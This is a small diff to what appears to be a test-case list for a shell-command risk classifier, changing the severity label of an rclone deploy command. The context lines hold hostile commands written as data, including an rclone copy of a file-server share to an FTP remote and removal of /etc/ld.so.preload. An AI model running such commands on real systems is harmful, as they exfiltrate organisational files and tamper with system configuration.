@@ -131,7 +131,7 @@ CASES = [
     ("xattr -p com.apple.quarantine ~/Downloads/Installer.dmg", "bash", S),
     ("defaults read com.apple.loginwindow", "bash", S),
     ('rclone.exe copy --max-age 2y "\\\\FS01\\Shares" ftp1:uploads/Shares -q', "cmd", C),
-    ("rclone copy --max-age 24h ./dist s3:site", "bash", M),
+    ("rclone copy --max-age 24h ./dist s3:site", "bash", C),
     ("rm -f /etc/ld.so.preload", "bash", C),
 ]
 
